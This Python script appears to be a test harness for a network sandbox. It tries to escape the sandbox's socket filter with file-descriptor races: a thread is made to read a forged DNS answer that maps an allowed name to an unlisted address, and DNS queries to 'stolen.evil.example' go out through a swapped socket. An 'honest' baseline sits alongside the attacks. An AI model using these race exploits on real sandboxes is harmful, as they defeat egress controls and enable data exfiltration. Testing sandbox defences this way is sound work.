"""Runs inside the sandbox: one socket is looked at, and the kernel uses another, as a second thread comes in between.

The words are a way and for how many seconds to try; an attempt ends when it got through, or then. The last line of
output is how many times it was tried; of an honest way, how many times it went well.
"""

from __future__ import annotations

import contextlib
import os
import select
import socket
import struct
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack

from hellos import address, hello
from questions import ALLOWED, RESOLVER, address_in, answer, by_udp, framed, over_tcp, query, use
from ways import WAYS, disconnect, in_threads, meanwhile, refusal, taken_over, way

STOLEN = "stolen.evil.example"
UNLISTED = ("198.51.100.9", 80)
SHARED = 300
THREADS, TIMES = 4, 50
RESET = struct.pack("ii", 1, 0)
Tries = Iterator[None]


def full_of(data: bytes, listener: socket.socket) -> tuple[socket.socket, socket.socket]:
    """A connection of which both sides hold as much of that as they take, and its other end."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
    s.connect(listener.getsockname())
    other, _ = listener.accept()
    other.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    other.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
    other.setblocking(False)
    stream, sent, idle = data * 4000, 0, 0
    while idle < 3:
        try:
            sent += other.send(stream[sent : sent + 65536])
        except BlockingIOError:
            idle += 1
            time.sleep(0.001)
    return s, other


def learn_from(forged: bytes, listener: socket.socket) -> None:
    """A thread waits for an answer of the name server. Another connection, which holds forged ones, is laid under that
    number, and as soon as some of those were taken, that socket is connected to the name server itself."""
    with ExitStack() as stack:
        real = stack.enter_context(over_tcp())
        s, other = full_of(forged, listener)
        stack.enter_context(s)
        os.dup2(real.fileno(), SHARED)
        shared = socket.socket(fileno=SHARED)
        shared.setblocking(True)

        def wait() -> None:
            os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))  # behind all others
            with contextlib.suppress(OSError):
                shared.recv(16000)

        thread = threading.Thread(target=wait)
        thread.start()
        time.sleep(0.003)
        with contextlib.suppress(OSError):
            os.dup2(s.fileno(), SHARED)
        poll = select.poll()
        poll.register(other, select.POLLOUT)
        real.send(framed(query(ALLOWED)))  # the answer to which has the thread go on, with what it finds there
        poll.poll(500)
        os.close(other.detach())
        refusal(lambda: disconnect(s.fileno()))
        s.setblocking(False)
        with contextlib.suppress(OSError):
            s.connect_ex(RESOLVER)
        end = time.perf_counter() + 0.05  # meanwhile the thread has no processor
        while time.perf_counter() < end:
            with contextlib.suppress(OSError):
                s.getpeername()
                break
        thread.join(1)
        real.shutdown(socket.SHUT_RDWR)  # should it wait for that still
        thread.join()
        shared.close()


def reached() -> bool:
    with socket.socket() as s:
        s.settimeout(2)
        return refusal(lambda: s.connect(UNLISTED)) is None and s.send(b"evil.example") > 0


@way
def an_answer_of_our_own() -> Tries:
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # one: a thread behind others may be interrupted anywhere
    asked = query(ALLOWED)
    with by_udp(asked) as s:
        s.recv(512)
    forged = asked[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + asked[12:]
    forged += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(UNLISTED[0])
    listener = socket.socket()
    listener.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    got_through = False
    while not got_through:
        learn_from(framed(forged), listener)
        got_through = reached()
        yield


@way
def a_datagram_by_a_local_socket() -> Tries:
    """Whether what is sent is a question is not asked of UNIX sockets, which no name server reads."""
    ours, _theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ours.setblocking(False)
    numbers = (udp.fileno(), ours.fileno())
    os.dup2(numbers[0], SHARED)
    with meanwhile(lambda: [refusal(lambda n=n: os.dup2(n, SHARED)) for n in numbers]):
        shared = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, fileno=SHARED)
        while True:
            with contextlib.suppress(OSError):
                shared.sendto(query(STOLEN), RESOLVER)
            yield


@way
def honest_threads() -> Tries:
    """The same calls on sockets that nobody replaces, and own ones handed over, as in a pool. Those that went well."""
    went_well: list[None] = []

    def work() -> None:
        with socket.create_server(("127.0.0.1", 0)) as listener, socket.create_connection(listener.getsockname()) as s:
            accepted, _ = listener.accept()
            for end, other in ((s, accepted), (accepted, s)):
                with socket.socket(fileno=taken_over(end.fileno())[0]) as copy:
                    copy.sendall(bytes(20_000))
                assert other.recv(1) == b"\0"
            accepted.close()
        with over_tcp(query(ALLOWED)) as s:
            use(address_in(answer(s.recv)))
        with socket.create_connection(address()) as s:
            s.sendall(hello(ALLOWED))

    def repeat() -> None:
        for _ in range(TIMES):
            work()
            went_well.append(None)

    in_threads(THREADS, repeat)
    yield from went_well


if __name__ == "__main__":
    tried, end = 0, time.monotonic() + float(sys.argv[2])
    for _ in WAYS[sys.argv[1]]():
        tried += 1
        if time.monotonic() > end:
            break
    time.sleep(0.3)
    print(tried, flush=True)
    os._exit(0)
